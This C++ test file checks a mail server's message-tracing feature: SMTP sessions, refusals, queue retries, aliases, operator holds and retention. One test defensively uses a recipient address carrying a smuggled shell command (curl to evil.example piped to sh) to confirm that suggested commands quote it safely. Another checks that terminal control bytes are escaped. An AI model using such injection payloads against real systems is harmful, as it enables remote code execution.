// Life stories from end to end: what a client was told, what another server said, and what the trace makes of it.
#include "agent/trace_verbs.h"

#include <boost/json.hpp>

#include "agent/queue_verbs.h"
#include "agent/settings.h"
#include "agent/standing.h"
#include "agent/test_outbound.h"
#include "agent/transaction.h"
#include "trace/index.h"
#include "trace/keys.h"

namespace angarium::agent {
namespace {

namespace json = boost::json;
namespace smtp = protocol::smtp;
using namespace std::chrono_literals;

class House : public Outbound {
 public:
  /// Each line is sent when the reply to the one before has come; what is heard, whole.
  std::string say(const std::vector<std::string>& lines, smtp::Role role = smtp::Role::mx,
                  const std::string& peer = "192.0.2.7:4711", std::uint64_t message_octets = 1 << 20) {
    auto ends = wire::memory_connections(
        {.client = *io::Endpoint::parse(peer), .server = *io::Endpoint::parse("192.0.2.1:25")});
    smtp::Policy now_policy;
    now_policy.role = role;
    now_policy.hostname = "mx.a.test";
    now_policy.dsn = smtp::Announce::yes;
    now_policy.limits.message_octets = message_octets;
    const SmtpDesk desk{.services = *services,
                        .budget = budget_,
                        .rate = rate,
                        .policy = now_policy,
                        .outbound = terms,
                        .relay_networks = {*io::Prefix::parse("198.51.100.0/24")}};
    bool ended = false;
    loop.spawn([](const SmtpDesk& at, wire::Connection& connection, bool& over) -> io::Task<> {
      {
        SmtpSession session(at, connection.peer());
        co_await smtp::serve(connection, session, at.policy);
      }
      over = true;
    }(desk, *ends.server, ended));
    std::string heard;
    const auto hear = [&] {
      loop.settle();
      char buffer[4096];
      for (;;) {
        const auto count = ends.client->try_read(buffer);
        if (!count || *count == 0) return;
        heard.append(buffer, *count);
      }
    };
    hear();
    for (const std::string& line : lines) {
      (void)ends.client->try_write(line + "\r\n");
      hear();
    }
    ends.client->close();
    loop.settle();
    REQUIRE(ended);
    return heard;
  }
  static std::string last_id(const std::string& heard) {
    const std::size_t at = heard.rfind("(id ");
    REQUIRE(at != std::string::npos);
    return heard.substr(at + 4, trace::DeliveryId::kLetters);
  }

  std::vector<json::object> stories(const std::string& what, const std::string& limit = "100") {
    const auto answer =
        run(trace_verb(*services, {.verb = "trace.find", .arguments = {{"what", what}, {"limit", limit}}}));
    REQUIRE_MESSAGE(answer, (answer ? "" : answer.error().text()));
    std::vector<json::object> all;
    const json::value whole = json::parse(*answer);
    for (const json::value& one : whole.at("stories").as_array()) all.push_back(one.as_object());
    return all;
  }
  json::object story(const std::string& what) {
    const auto all = stories(what);
    REQUIRE(all.size() == 1);
    return all.front();
  }
  /// The words, a line each.
  static std::string words(const json::object& story) {
    std::string all;
    for (const json::value& line : story.at("story").as_array())
      all += std::string(line.at("words").as_string()) + "\n";
    return all;
  }
  static std::string advice(const json::object& story) {
    std::string all;
    for (const json::value& line : story.at("advice").as_array()) all += std::string(line.as_string()) + "\n";
    return all;
  }
  mailbox::AccountMailPtr mail(const std::string& name) {
    const auto account = services->directory().account(name + "@a.test");
    return *run(services->mail().account((*account)->id));
  }
  Rate rate{0};

 private:
  Budget budget_{64 << 20};
};

void says(const std::string& text, std::string_view part) { CHECK_MESSAGE(text.contains(part), text, " lacks ", part); }

const std::vector<std::string> kLetter = {"EHLO client.example",
                                          "MAIL FROM:<bob@b.test> RET=HDRS",
                                          "RCPT TO:<nobody@a.test>",
                                          "RCPT TO:<alice@a.test> NOTIFY=NEVER",
                                          "DATA",
                                          "Message-ID: <1@b.test>\r\nSubject: hello\r\n\r\ntext\r\n."};

}  // namespace

TEST_CASE(
    "an accepted message: who brought it, what was decided of each recipient, and where it lies, also when it was "
    "moved") {
  House house;
  const std::string heard = house.say(kLetter);
  const std::string id = House::last_id(heard);
  says(heard, "250 2.6.0 Message accepted (id " + id + ")");
  for (const std::string& what :
       {id, std::string("ALICE@a.test"), std::string("bob@b.test"), std::string("<1@b.test>"), std::string("1@b.test"),
        std::string("192.0.2.7"), std::string("nobody@a.test"), std::string("last")})
    CHECK(house.story(what).at("id").as_string() == id);
  const json::object story = house.story(id);
  CHECK(story.at("outcome").as_string() == "accepted");
  CHECK(story.at("peer").as_string() == "192.0.2.7");
  CHECK(story.at("recipients").as_array().size() == 2);
  const std::string words = House::words(story);
  says(words, "accepted by smtp from client.example [192.0.2.7], without TLS");
  says(words, "from bob@b.test, ");
  says(words, "Message-ID <1@b.test>");
  says(words, "headers only in reports");
  says(words, "to alice@a.test: delivered here; reports wanted: never");
  says(words, "to nobody@a.test: refused, 550 5.1.1 (");
  says(words, "in INBOX of alice@a.test, UID 1");
  says(House::advice(story), "angarium account add nobody@a.test");
  const auto mail = house.mail("alice");
  const mailbox::ListingPtr boxes = mail->listing();
  REQUIRE(house.run(mail->move(boxes->find("INBOX")->id, mailbox::UidSet::all(), boxes->find("Archive")->id)));
  says(House::words(house.story(id)), "moved: in Archive of alice@a.test, UID 1");
  REQUIRE(house.run(mail->expunge(boxes->find("Archive")->id, mailbox::UidSet::all(), mailbox::ExpungeOnly::any)));
  says(House::words(house.story(id)), "no longer in any mailbox of alice@a.test");
}

TEST_CASE("a refused message has its story under the id that the client was told, with the reason") {
  House house;
  const std::string relay =
      House::last_id(house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<y@far.example>", "QUIT"}));
  const json::object refused = house.story(relay);
  CHECK(refused.at("outcome").as_string() == "refused");
  says(House::words(refused), "came by smtp from c.example [192.0.2.7]");
  says(House::words(refused), "to y@far.example: refused, 550 5.7.1 (");
  says(House::words(refused), "): Relaying denied");
  CHECK(refused.at("summary").as_string() == "refused");
  says(House::advice(refused), "smtp.relay_networks");

  const std::string size = House::last_id(
      house.say({"EHLO c.example", "MAIL FROM:<x@c.example> SIZE=9999999"}, smtp::Role::mx, "192.0.2.8:9", 1000));
  says(House::words(house.story(size)), "refused at MAIL: 552 5.3.4");
  says(House::words(house.story(size)), "from x@c.example");
  says(House::advice(house.story(size)), "smtp.message_size_max");

  const std::string large = House::last_id(house.say(
      {"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<alice@a.test>", "DATA", std::string(2000, 'x'), "."},
      smtp::Role::mx, "192.0.2.9:9", 1000));
  says(House::words(house.story(large)), "to alice@a.test: refused, 552 5.3.4");
  says(House::words(house.story(large)), "refused at DATA: 552 5.3.4");
  CHECK(house.story(large).at("summary").as_string() == "refused");

  const std::string lost =
      House::last_id(house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<alice@a.test>", "DATA", "half"},
                               smtp::Role::mx, "192.0.2.10:9"));
  says(House::words(house.story(lost)), "the connection ended before the message was whole");

  const std::string bad = House::last_id(house.say({"EHLO c.example", "MAIL FROM:<\x01>", "MAIL FROM:<a b@c>"}));
  says(House::words(house.story(bad)), "refused at MAIL: 501");
}

TEST_CASE("what follows a refusal in one go does not take the place of its reason") {
  House house;
  const std::string at_once = "MAIL FROM:<x@c.example> SIZE=9999999\r\nRCPT TO:<alice@a.test>\r\nDATA";
  const std::string size = House::last_id(house.say({"EHLO c.example", at_once}, smtp::Role::mx, "192.0.2.8:9", 1000));
  says(House::words(house.story(size)), "refused at MAIL: 552 5.3.4");
  says(House::words(house.story(size)), "to alice@a.test: refused, 503");
  const std::string nobody =
      House::last_id(house.say({"EHLO c.example", "MAIL FROM:<x@c.example>\r\nRCPT TO:<nobody@a.test>\r\nDATA"}));
  const std::string words = House::words(house.story(nobody));
  says(words, "to nobody@a.test: refused, 550 5.1.1");
  CHECK_FALSE(words.contains("refused at DATA"));
  CHECK(house.story(nobody).at("summary").as_string() == "refused");
}

TEST_CASE("of several ways of one address each has attempts of its own") {
  const auto recipient = [](trace::Course course) {
    return trace::Recipient{.address = std::string_view("anna@a.test"), .course = course, .code = {}};
  };
  trace::Beginning beginning;
  beginning.recipients = {recipient(trace::Course::elsewhere), recipient(trace::Course::onward),
                          recipient(trace::Course::onward)};
  const auto attempt = [](trace::Fate::Kind kind) {
    trace::Event event;
    event.fates = {{.kind = kind, .address = std::string_view("anna@a.test")}};
    return event;
  };
  using Kind = trace::Fate::Kind;
  std::vector<trace::Event> events = {attempt(Kind::owed), attempt(Kind::delivered)};
  CHECK(summary(standings(beginning, events, InQueue::yes)) == "1 waiting, 1 sent on, 1 delivered");
  events.push_back(attempt(Kind::delivered));
  CHECK(summary(standings(beginning, events, InQueue::no)) == "1 sent on, 2 delivered");
}

TEST_CASE("a transaction given up without a refusal leaves no story, and one accepted leaves no other") {
  House house;
  house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<alice@a.test>", "RSET", "QUIT"});
  CHECK(house.stories("last").empty());
  house.say(kLetter);
  CHECK(house.stories("last").size() == 1);
}

TEST_CASE("over the rate, and turned away at the door") {
  House house;
  house.rate.set_per_minute(1);
  house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RSET", "MAIL FROM:<x@c.example>"});
  const json::object limited = house.story("last");
  says(House::words(limited), "refused at MAIL: 450 4.7.1");
  says(House::advice(limited), "smtp.messages_per_minute");
  house.run([](trace::Ledger& ledger) -> io::Task<Result<>> {
    note_turned_away(ledger, trace::Door::smtp, *io::Endpoint::parse("203.0.113.5:1"),
                     {421, {4, 7, 0}, "Too many connections"});
    co_return Result<>();
  }(house.services->ledger()));
  const json::object away = house.story("203.0.113.5");
  CHECK(away.at("outcome").as_string() == "turned away");
  says(House::words(away), "turned away: 421 4.7.0 (");
  says(House::advice(away), "limits.connections_max");
}

TEST_CASE("LMTP: one recipient reached and one refused are one story") {
  House house;
  REQUIRE(house.run(house.mail("postmaster")->set_quota({.octets = 100, .messages = 0})));
  const std::string heard =
      house.say({"LHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<alice@a.test>", "RCPT TO:<postmaster@a.test>",
                 "DATA", "Subject: " + std::string(200, 'x') + "\r\n\r\ntext\r\n."},
                smtp::Role::lmtp);
  says(heard, "452 4.2.2");
  const json::object story = house.story("last");
  CHECK(story.at("outcome").as_string() == "accepted");
  says(House::words(story), "to alice@a.test: delivered here");
  says(House::words(story), "to postmaster@a.test: refused, 452 4.2.2 (");
  says(House::advice(story), "angarium account set postmaster@a.test --quota");
}

TEST_CASE("the queue: each attempt with the host, TLS and the remote's words, what waits, and the report at the end") {
  House house;
  house.house.users.emplace("later", "x");
  const std::string id = House::last_id(
      house.say({"EHLO c.example", "MAIL FROM:<alice@a.test>", "RCPT TO:<bob@b.test>", "RCPT TO:<later@b.test>",
                 "RCPT TO:<nobody@b.test>", "DATA", "Subject: out\r\n\r\ntext\r\n."},
                smtp::Role::mx, "198.51.100.1:4000"));
  house.loop.advance(30s);
  const json::object story = house.story(id);
  const std::string words = House::words(story);
  says(words, "to bob@b.test: into the queue");
  says(words, "attempt 1 at mx.b.test [192.0.2.2]");
  says(words, "bob@b.test: taken: 250 2.0.0");
  says(words, "later@b.test: not yet: 450 4.2.1 Mailbox busy (id ");
  says(words, "nobody@b.test: failed for good: 550 5.1.1 No such user here");
  says(words, "a report about nobody@b.test goes to alice@a.test: message ");
  says(words, "waits in the queue for b.test: the next attempt is in ");
  says(words, "it is given up in ");
  CHECK(story.at("summary").as_string() == "1 failed, 1 waiting, 1 taken by another server");
  CHECK(story.at("recipients").at(1).at("now").as_string() == "waiting");
  says(std::string(story.at("recipients").at(1).at("words").as_string()), "450 4.2.1 Mailbox busy");
  says(House::advice(story), "nobody@b.test: There is no mailbox with this address.");
  says(House::advice(story), "angarium queue retry " + id);
  CHECK(story.at("queue").as_array().size() == 1);
  // The report has a story of its own.
  std::string report;
  for (const json::value& event : story.at("events").as_array())
    if (event.at("kind").as_string() == "report") report = std::string(event.at("report").as_string());
  const json::object own = house.story(report);
  CHECK(own.at("outcome").as_string() == "report");
  says(House::words(own), "a report about the message " + id);
  says(House::words(own), "alice@a.test: delivered here");
  says(House::words(own), "in INBOX of alice@a.test, UID 1");
  // An operator, and the end of its time.
  REQUIRE(
      house.run(queue_verb(*house.services, house.terms->reports, {.verb = "queue.hold", .arguments = {{"id", id}}})));
  says(House::words(house.story(id)), "held by the operator");
  says(House::advice(house.story(id)), "angarium queue release " + id);
  REQUIRE(house.run(
      queue_verb(*house.services, house.terms->reports, {.verb = "queue.release", .arguments = {{"id", id}}})));
  house.loop.advance(122h);
  const std::string end = House::words(house.story(id));
  says(end, "released by the operator");
  says(end, "later@b.test: given up, its time is over");
  says(end, "a notice of the delay about later@b.test goes to alice@a.test: message ");
  says(end, " ended in the same way");
  CHECK(house.story(id).at("summary").as_string() == "2 failed, 1 taken by another server");
  CHECK_FALSE(end.contains("waits in the queue"));
}

TEST_CASE("aliases that lead elsewhere: what goes on under another id has a story, and each tells of the other") {
  House house;
  account::Directory& directory = house.services->directory();
  REQUIRE(directory.add_alias("away@a.test", account::Alias::Kind::alias, {"bob@b.test"}));
  REQUIRE(directory.add_alias("both@a.test", account::Alias::Kind::alias, {"alice@a.test", "us@b.test"}));
  const std::string id = House::last_id(house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<away@a.test>",
                                                   "RCPT TO:<both@a.test>", "DATA", "Subject: on\r\n\r\ntext\r\n."}));
  house.loop.advance(30s);
  const json::object story = house.story(id);
  const std::string words = House::words(story);
  says(words, "to away@a.test: into the queue");
  says(words, "  it leads to bob@b.test: into the queue");
  CHECK(story.at("summary").as_string() == "1 taken by another server, 1 sent on, 1 delivered");
  CHECK(house.story("bob@b.test").at("id").as_string() == id);
  says(words, "to both@a.test: delivered here");
  says(words, "in INBOX of alice@a.test, UID 1");
  says(words, "bob@b.test: taken: 250 2.0.0");
  std::string onward;
  for (const json::value& event : story.at("events").as_array())
    if (event.at("kind").as_string() == "sent on") onward = std::string(event.at("as").as_string());
  says(words, "goes on for both@a.test as the message " + onward);
  const json::object own = house.story(onward);
  CHECK(own.at("outcome").as_string() == "sent on");
  CHECK(own.at("sent_on_from").as_string() == id);
  says(House::words(own), "sent on from the message " + id);
  says(House::words(own), "us@b.test: taken: 250 2.0.0");
}

TEST_CASE("a message that waited for an address that is sent on is told to be, and what goes on has a story") {
  House house;
  REQUIRE(house.services->directory().add_alias("away@a.test", account::Alias::Kind::alias, {"bob@b.test"}));
  const std::string text = "Subject: held\r\n\r\ntext\r\n";
  queue::Entry entry = Outbound::entry(house.loop, text);
  house.loop.advance(2h);
  house.put(entry, text, {"<away@a.test>"});
  house.loop.advance(30s);
  // It tells when, though what goes on is as old as what it comes from.
  const std::string stories = trace::kind_prefix(trace::Lane::accepted, trace::RecordKind::story);
  std::size_t events = 0;
  REQUIRE(
      house.services->tablet().scan(stories, trace::behind(stories), {}, [&](std::string_view key, std::string_view) {
        const auto place = trace::story_in(key);
        if (place && place->event && place->id == entry.id) {
          ++events;
          CHECK(place->event->microseconds >= entry.arrived.microseconds + Duration(2h).count());
        }
        return store::Step::next;
      }));
  CHECK(events > 0);
  const auto found = house.stories("bob@b.test");
  REQUIRE(found.size() == 1);
  CHECK(found.front().at("outcome").as_string() == "sent on");
  CHECK(found.front().at("sent_on_from").as_string() == entry.id.text());
  says(House::words(found.front()), "bob@b.test: taken: 250 2.0.0");
}

TEST_CASE("a destination that is not reached stands in the story of the message that was to go") {
  House house;
  house.there.set_state(io::MemoryNetwork::Host::State::stopped);
  const std::string id = House::last_id(house.say(
      {"EHLO c.example", "MAIL FROM:<alice@a.test>", "RCPT TO:<bob@b.test>", "DATA", "Subject: out\r\n\r\ntext\r\n."},
      smtp::Role::mx, "198.51.100.1:4000"));
  house.loop.advance(4min);
  const std::string words = House::words(house.story(id));
  says(words, "attempt 1: bob@b.test: not yet: ");
  says(words, "since the destination was not reached");
}

TEST_CASE("what an operator removes is told to be removed") {
  House house;
  house.there.set_state(io::MemoryNetwork::Host::State::stopped);
  const std::string id = House::last_id(house.say(
      {"EHLO c.example", "MAIL FROM:<alice@a.test>", "RCPT TO:<bob@b.test>", "DATA", "Subject: out\r\n\r\ntext\r\n."},
      smtp::Role::mx, "198.51.100.1:4000"));
  house.loop.advance(4min);
  REQUIRE(house.run(
      queue_verb(*house.services, house.terms->reports, {.verb = "queue.remove", .arguments = {{"id", id}}})));
  const json::object story = house.story(id);
  CHECK(story.at("summary").as_string() == "removed from the queue");
  says(House::words(story), "removed from the queue by the operator");
}

TEST_CASE("stories are kept for trace.keep, accepted ones and refused ones") {
  House house;
  house.say(kLetter);
  house.say({"EHLO c.example", "MAIL FROM:<x@c.example>", "RCPT TO:<nobody@a.test>", "QUIT"});
  CHECK(house.stories("last").size() == 2);
  const auto tend = [&] {
    return house.run([](trace::Ledger& ledger) -> io::Task<Result<>> {
      co_return ledger.tend(io::Loop::current().clock().wall(), io::Loop::current().now());
    }(house.services->ledger()));
  };
  const Duration keep = house.services->ledger().options().keep;
  REQUIRE(keep == std::chrono::hours(720));
  house.loop.advance(keep - 1h);
  REQUIRE(tend());
  CHECK(house.stories("last").size() == 2);
  // They go in steps of a 48th of the time.
  house.loop.advance(1h + keep / 48 + 1min);
  REQUIRE(tend());
  CHECK(house.stories("last").empty());
}

TEST_CASE("controls in the words of others are escaped in everything that is told") {
  House house;
  const std::string id = House::last_id(house.say({"EHLO c.example", "MAIL FROM:<\x80\x9b[2J@c.example>"}));
  const auto answer = house.run(trace_verb(*house.services, {.verb = "trace.find", .arguments = {{"what", id}}}));
  REQUIRE(answer);
  CHECK_FALSE(answer->contains('\x9b'));
  says(*answer, "\\\\x9b[2J");
}

TEST_CASE("a stranger's address is a word of the shell, and no command, in what one is advised to type") {
  House house;
  const std::string id = House::last_id(
      house.say({"EHLO c.example", "MAIL FROM:<bob@b.test>", "RCPT TO:<`curl${IFS}evil.example|sh'`@a.test>"}));
  says(House::advice(house.story(id)), "angarium account add '`curl${IFS}evil.example|sh'\\''`@a.test', or");
}

TEST_CASE(
    "limits: a story of very many attempts is told by the first and the last ones, and stands as all of them say") {
  House house;
  const std::string id = House::last_id(house.say(kLetter));
  const WallTime began = [&] {
    std::optional<WallTime> at;
    const std::string prefix = trace::kind_prefix(trace::Lane::accepted, trace::RecordKind::story);
    REQUIRE(
        house.services->tablet().scan(prefix, trace::behind(prefix), {}, [&](std::string_view key, std::string_view) {
          at = trace::story_in(key)->began;
          return store::Step::stop;
        }));
    return at.value();
  }();
  std::vector<std::string> words;
  for (int i = 0; i < 120; ++i) words.push_back("421 not now, " + std::to_string(i));
  for (std::uint32_t number = 1; number <= 60; ++number) {
    store::Batch batch;
    trace::Event event{.at = {began.microseconds + number * 1'000'000}, .number = number};
    // Each ends otherwise, so that none is told by another one.
    for (std::size_t i = 0; i < 100; ++i)
      event.fates.push_back({.kind = trace::Fate::Kind::owed,
                             .address = std::string_view("alice@a.test"),
                             .status = std::string_view("4.2.1"),
                             .words = std::string_view(words[(i + number) % words.size()])});
    trace::Ledger::happened(began, *trace::DeliveryId::parse(id), event, batch);
    REQUIRE(house.services->tablet().commit_and_wait(std::move(batch)));
  }
  const json::object story = house.story(id);
  const json::array& events = story.at("events").as_array();
  CHECK(events.size() == 30);
  CHECK(events.front().at("number").as_int64() == 1);
  CHECK(events.back().at("number").as_int64() == 60);
  says(House::words(story), "30 events until");
}

TEST_CASE("the record of an ordinary message is one key, and below 200 octets") {
  House house;
  house.say(kLetter);
  std::size_t keys = 0;
  const std::string prefix(1, static_cast<char>(trace::kKeyOctet));
  REQUIRE(
      house.services->tablet().scan(prefix, trace::behind(prefix), {}, [&](std::string_view, std::string_view value) {
        ++keys;
        CHECK(value.size() <= trace::kAcceptedMax + trace::kRecipientMax);
        return store::Step::next;
      }));
  CHECK(keys == 1);
}

TEST_CASE("what is no question is told so, and limits are held") {
  House house;
  const auto ask = [&](std::vector<std::pair<std::string, std::string>> arguments) {
    return house.run(trace_verb(*house.services, {.verb = "trace.find", .arguments = std::move(arguments)}));
  };
  CHECK(ask({{"what", "rubbish"}}).error().is(kUsageError));
  CHECK(ask({{"what", "last"}, {"limit", "0"}}).error().is(kUsageError));
  CHECK(ask({{"what", "last"}, {"limit", std::to_string(kStoriesMax)}}));
  CHECK(ask({{"what", "last"}, {"limit", std::to_string(kStoriesMax + 1)}}).error().is(kUsageError));
  CHECK(ask({{"what", "last"}, {"since", "x"}}).error().is(kUsageError));
  CHECK(house.stories("alice@a.test").empty());
  house.say(kLetter);
  house.say(kLetter);
  CHECK(house.stories("last", "1").size() == 1);
  CHECK(house.stories("last").size() == 2);
}

}  // namespace angarium::agent
